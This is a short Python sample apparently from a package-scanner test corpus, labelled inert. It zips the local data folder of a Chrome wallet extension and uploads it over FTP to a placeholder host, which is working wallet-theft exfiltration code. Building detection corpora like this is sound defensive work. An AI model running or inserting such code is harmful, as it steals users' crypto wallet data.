# pkgguard corpus 524 (wallets), modelled on [wallet-tools]; inert, never run.
import ftplib
import io
import os
import zipfile

ext = os.path.join(
    os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default",
    "Local Extension Settings", "hnfanknocfeofbddgcijnmhnfnkdnaad",
)
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as zf:
    for folder, _dirs, files in os.walk(ext):
        for name in files:
            zf.write(os.path.join(folder, name), name)
buf.seek(0)
with ftplib.FTP("files.example", "anon", "placeholder") as ftp:
    ftp.storbinary("STOR cb.zip", buf)
